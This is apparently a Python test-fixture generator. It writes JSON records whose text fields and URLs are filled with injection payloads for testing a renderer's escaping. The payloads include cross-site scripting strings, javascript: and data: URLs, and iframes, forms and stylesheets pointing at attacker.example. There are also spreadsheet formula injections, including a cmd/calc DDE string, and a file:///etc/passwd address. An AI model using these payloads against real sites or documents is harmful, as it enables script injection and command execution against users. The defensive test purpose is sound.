"""Records in which every text tries to become a part of the page that shows it; run as a module it writes them as files."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable, Iterator
from copy import deepcopy
from itertools import count, cycle
from pathlib import Path
from typing import Any

from tests.records import TWITTER_2013, X_2024, example

ATTACKS = (
    "<script>self.hit=1;document.title='hit'</script>",
    '"><img src=x onerror="self.hit=1">',
    "'><svg onload='self.hit=1'>",
    "</title></head><body onload=self.hit=1>",
    "</script><script>self.hit=1</script>",
    "{{ 7 * 7 }} {% raw %} ${self.hit=1}",
    "[here](javascript:self.hit=1) ![there](https://attacker.example/p.png)",
    '<a href="javascript:self.hit=1">here</a>',
    '<style>@import "https://attacker.example/a.css"</style><link rel=stylesheet href=//attacker.example/b.css>',
    "--><!-- ]]> &lt;script&gt; &#x3c;script&#x3e; <![CDATA[",
    "javascript:self.hit=1",
    '" autofocus onfocus=self.hit=1 x="',
    "\u202esdrawkcab\u202c and \u2066isolated\u2069",
    "שלום <b>עולם</b>",
    "\u2028*/ self.hit=1 //\u2029",
    "<iframe src='https://attacker.example/'></iframe><form action=https://attacker.example/><button>x</button></form>",
    "<base href='https://attacker.example/'><meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    '=HYPERLINK("https://attacker.example/","here")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1);-2+3",
)
FREE = frozenset(
    {
        *("title", "summary", "name", "statement", "note", "quote", "says", "words", "condition", "scope"),
        *("publisher", "authors", "networks", "question", "curators", "also_known_as", "extensions", "identifiers"),
    }
)
"""The keys under which a record holds text of its own."""
ADDRESSES = (
    "https://attacker.example/?q=%22%3E%3Cscript%3Eself.hit=1%3C/script%3E",
    "http://attacker.example/a'b(c);self.hit=1//&amp;#",
)
"""Addresses that a record may hold."""
BAD_ADDRESSES = (
    "javascript:self.hit=1",
    "JavaScript://attacker.example/%0aself.hit=1",
    "data:text/html,<script>self.hit=1</script>",
    "//attacker.example/a",
    'https://attacker.example/"onmouseover="self.hit=1',
    "https://attacker.example/'><script>self.hit=1</script>",
    " https://attacker.example/",
    "vbscript:x",
    "file:///etc/passwd",
)
"""Addresses that no valid record holds, but a value made in Python may."""
LONG = "<b>" + "wide" * 2_400


def replaced(data: Any, text: Callable[[], str], address: Callable[[], str]) -> Any:
    """Return JSON data of a record with each text of its own, and each address, replaced."""
    if isinstance(data, list):
        return [replaced(item, text, address) for item in data]
    if not isinstance(data, dict):
        return data
    made = {}
    for key, value in data.items():
        if key in FREE:
            made[key] = _texts(value, text)
        elif key in ("url", "archived_url"):
            made[key] = address()
        else:
            made[key] = replaced(value, text, address)
    return made


def _texts(value: Any, text: Callable[[], str]) -> Any:
    if isinstance(value, str):
        return text()
    if isinstance(value, list):
        return [_texts(item, text) for item in value]
    return {key: _texts(item, text) for key, item in value.items()}


def hostile() -> Iterator[str]:
    """Yield attacks, no two alike."""
    return (f"{attack} {number}" for number, attack in enumerate(cycle(ATTACKS)))


def harmless() -> Iterator[str]:
    """Yield texts with nothing in them, no two alike."""
    return (f"some words {number}" for number in count())


def records(texts: Iterator[str], addresses: Iterator[str]) -> Iterator[dict[str, Any]]:
    """Yield records of which every text is taken from some texts."""
    for place, path in enumerate((TWITTER_2013, X_2024)):
        data = deepcopy(example(path))
        data["curation"] = {**data.get("curation", {}), "curators": ["a"], "note": "b"}
        data["extensions"] = {"own": "c"}
        data["places"] = [{"id": "town", "name": "h", "in": "VE-V", "kind": "city", "identifiers": {"scheme": "i"}}]
        data["actions"][0]["where"] = ["VE", "town"]
        for actor in data["actors"]:
            actor["also_known_as"] = ["d", "e"]
            actor["identifiers"] = {"scheme": "f"}
            actor["offices"] = [{"title": "g"}]
        made = replaced(data, lambda: next(texts), lambda: next(addresses))
        yield {**made, "title": LONG[:200], "summary": LONG} if place else made


def main() -> None:
    """Write the records into a folder."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for data in records(hostile(), cycle(ADDRESSES)):
        text = json.dumps(data, ensure_ascii=False, indent=2) + "\n"
        (folder / f"{data['id']}.json").write_text(text, encoding="utf-8", newline="\n")


if __name__ == "__main__":
    main()
